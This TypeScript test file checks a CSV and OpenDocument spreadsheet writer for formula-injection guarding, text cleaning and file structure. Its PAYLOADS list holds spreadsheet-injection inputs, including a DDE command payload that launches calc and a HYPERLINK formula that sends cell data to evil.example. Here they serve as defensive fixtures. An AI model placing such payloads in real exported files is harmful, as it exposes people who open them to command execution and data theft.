import fc from 'fast-check'
import { unzipSync } from 'fflate'
import { SaxesParser } from 'saxes'
import { describe, expect, test } from 'vitest'
import { cleanText, looksLikeFormula } from '../../../src/web/tables/cell-text.js'
import type { Cell, CellKind, Table } from '../../../src/web/tables/table.js'
import { writeCsv } from '../../../src/web/tables/write-csv.js'
import { writeOds } from '../../../src/web/tables/write-ods.js'
import { zipInParts } from '../../../src/web/tables/zip-parts.js'
import { rowsOf, sheetsOf, unguarded } from './readers.js'

/** CS-01, and what people have used to get around such a guard. */
const PAYLOADS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@x',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '﹦1',
  '\u22121',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  "'=1+1",
  "''  =1+1",
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '=1+1";=2+2;"',
  '";=1+1',
  ',=1+1',
]
const ofTexts = (...texts: string[]): Table => ({
  name: 'Essai',
  columns: [{ title: 'Texte', kind: 'text' }],
  rows: texts.map((text) => [text]),
})
const MIXED: Table = {
  name: 'Séances',
  columns: [
    { title: 'Sujet', kind: 'text' },
    { title: 'Élèves', kind: 'number' },
    { title: 'Jour', kind: 'day' },
    { title: 'Durée', kind: 'minutes' },
  ],
  rows: [
    ['Moule « à chaud » ; suite', 12, '2026-11-24', 90],
    [null, null, null, null],
    ['', -3, '2026-11-25', 1505],
  ],
}

describe('a CSV file', () => {
  test('is UTF-8 with BOM, semicolons, CRLF, and durations as hours and minutes', () => {
    const text = Buffer.from(writeCsv(MIXED)).toString('utf8')
    expect(text).toBe(
      '\uFEFF"Sujet";"Élèves";"Jour";"Durée"\r\n' +
        '"Moule « à chaud » ; suite";12;2026-11-24;1:30\r\n' +
        ';;;\r\n' +
        '"";-3;2026-11-25;25:05\r\n',
    )
  })

  test.each(PAYLOADS)('CS-01 keeps %j a text, which comes back as it was', (payload) => {
    const [, [cell = ''] = []] = rowsOf(writeCsv(ofTexts(payload)))
    if (looksLikeFormula(cleanText(payload))) expect(cell[0]).toBe("'")
    expect(cell).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/)
    expect(unguarded(cell)).toBe(cleanText(payload))
  })

  test('leaves what is no formula as it is, apostrophes too', () => {
    const texts = ['Zoé', "l'atelier", "'quoted'", '3 = 2 + 1', 'a-b', 'nom@example.org', '']
    expect(
      rowsOf(writeCsv(ofTexts(...texts)))
        .slice(1)
        .flat(),
    ).toEqual(texts)
  })

  test('guards the titles of its columns too', () => {
    const table = { ...ofTexts(), columns: [{ title: '=1+1', kind: 'text' as const }] }
    expect(rowsOf(writeCsv(table))).toEqual([["'=1+1"]])
  })

  test('any texts come back, and none begins as a formula does', () => {
    fc.assert(
      fc.property(fc.array(fc.array(text(), { minLength: 2, maxLength: 2 })), (rows) => {
        const columns = ['a', 'b'].map((title) => ({ title, kind: 'text' as const }))
        const read = rowsOf(writeCsv({ name: 'x', columns, rows })).slice(1)
        expect(read.map((row) => row.map(unguarded))).toEqual(rows.map((row) => row.map(cleanText)))
        for (const cell of read.flat()) {
          expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
          if (looksLikeFormula(cell)) expect(cell[0]).toBe("'")
        }
      }),
    )
  })
})

describe('what no cell holds', () => {
  test('is control characters, halves of surrogate pairs, and what XML does not know', () => {
    expect(cleanText('a\u0000b\u001b[31mc\u0085d\ud800e\udffff\ufffe\uffff')).toBe('ab[31mcdef')
    expect(cleanText('😀\té\r\nb\rc')).toBe('😀\té\nb\nc')
  })
})

describe('an OpenDocument spreadsheet', () => {
  test('has its type first, as it is, so that programs know it by its bytes', () => {
    const bytes = Buffer.from(writeOds([MIXED]))
    expect(bytes.subarray(0, 4).toString('latin1')).toBe('PK\u0003\u0004')
    expect(bytes.readUInt16LE(8), 'method: stored').toBe(0)
    expect(bytes.readUInt16LE(28), 'no extra field').toBe(0)
    expect(bytes.subarray(30, 84).toString('latin1')).toBe(
      'mimetypeapplication/vnd.oasis.opendocument.spreadsheet',
    )
  })

  test('lists in its manifest what it holds, every part of it well-formed XML', () => {
    const files = unzipSync(writeOds([MIXED]))
    const manifest = Buffer.from(files['META-INF/manifest.xml']!).toString()
    for (const name of Object.keys(files).filter((one) => one.endsWith('.xml'))) {
      const parser = new SaxesParser({ xmlns: true })
      parser.on('error', (error) => {
        throw error
      })
      parser.write(Buffer.from(files[name]!).toString()).close()
      if (name !== 'META-INF/manifest.xml') expect(manifest).toContain(`full-path="${name}"`)
    }
  })

  test('has cells with types: text, number, day, duration', () => {
    expect(sheetsOf(writeOds([MIXED]))).toEqual([
      {
        name: 'Séances',
        columns: 4,
        rows: [
          ['Sujet', 'Élèves', 'Jour', 'Durée'].map((title) => string(title)),
          [
            string('Moule « à chaud » ; suite'),
            { type: 'float', value: '12', text: '' },
            { type: 'date', value: '2026-11-24', text: '' },
            { type: 'time', value: 'PT1H30M0S', text: '' },
          ],
          Array.from({ length: 4 }, () => ({ type: '', value: '', text: '' })),
          [
            string(''),
            { type: 'float', value: '-3', text: '' },
            { type: 'date', value: '2026-11-25', text: '' },
            { type: 'time', value: 'PT25H5M0S', text: '' },
          ],
        ],
      },
    ])
  })

  test('has a sheet for each table, under names that differ and that programs take', () => {
    const named = (name: string) => ({ ...ofTexts('x'), name })
    const sheets = sheetsOf(
      writeOds(['Élèves', 'élèves', '[a]:*?/\\', '', 'a'.repeat(60)].map(named)),
    )
    expect(sheets.map(({ name }) => name)).toEqual(['Élèves', 'élèves 2', 'a', '4', 'a'.repeat(31)])
  })

  test.each(PAYLOADS)('CS-01 has %j as a string, and no formula anywhere', (payload) => {
    const bytes = writeOds([ofTexts(payload)])
    expect(sheetsOf(bytes)[0]!.rows[1]).toEqual([string(cleanText(payload))])
    expect(Buffer.from(unzipSync(bytes)['content.xml']!).toString()).not.toContain('table:formula')
  })

  test('any texts come back, spaces and lines included, as strings', () => {
    fc.assert(
      fc.property(fc.array(text()), (texts) => {
        const [sheet] = sheetsOf(writeOds([ofTexts(...texts)]))
        expect(sheet!.rows.slice(1)).toEqual(texts.map((one) => [string(cleanText(one))]))
      }),
    )
  })
})

test.each([
  ['text', 3],
  ['number', '3'],
  ['number', Number.NaN],
  ['day', '24/11/2026'],
  ['minutes', -1],
  ['minutes', 1.5],
] as [CellKind, Cell][])('a cell of kind %s does not take %j', (kind, cell) => {
  const table: Table = { name: 'x', columns: [{ title: 'x', kind }], rows: [[cell]] }
  expect(() => writeCsv(table)).toThrow(TypeError)
  expect(() => writeOds([table])).toThrow(TypeError)
})

describe('a zip that is made in parts', () => {
  test('holds what came, file by file, and asks for no more than it gives', async () => {
    const asked: string[] = []
    async function* parts(name: string) {
      for (const at of [1, 2, 3]) {
        asked.push(`${name}${at}`)
        yield `${name}${at} é\n`.repeat(20_000)
      }
    }
    const chunks: Uint8Array[] = []
    let early = 0
    for await (const chunk of zipInParts(
      ['a', 'b'].map((name) => ({ name, parts: parts(name) })),
    )) {
      chunks.push(chunk)
      if (asked.length < 6) early += 1
    }
    expect(early).toBeGreaterThan(2)
    const files = unzipSync(Buffer.concat(chunks))
    expect(Object.keys(files)).toEqual(['a', 'b'])
    expect(Buffer.from(files['b']!).toString()).toBe(
      [1, 2, 3].map((at) => `b${at} é\n`.repeat(20_000)).join(''),
    )
  })

  test('ends with the fault of whoever gives the parts', async () => {
    async function* broken() {
      yield 'begun'
      throw new Error('the store is gone')
    }
    const reading = (async () => {
      for await (const _ of zipInParts([{ name: 'a', parts: broken() }]));
    })()
    await expect(reading).rejects.toThrow('the store is gone')
  })
})

const string = (text: string) => ({ type: 'string', value: '', text })

/** Texts of every sort, more often than not with signs that matter to a spreadsheet. */
const text = () =>
  fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .array(
        fc.constantFrom(
          '=',
          '+',
          '-',
          '@',
          "'",
          '"',
          ';',
          ' ',
          '\t',
          '\r',
          '\n',
          '＝',
          'a',
          '\u200b',
          '<',
          '&',
          '\ud800',
        ),
      )
      .map((signs) => signs.join('')),
  )
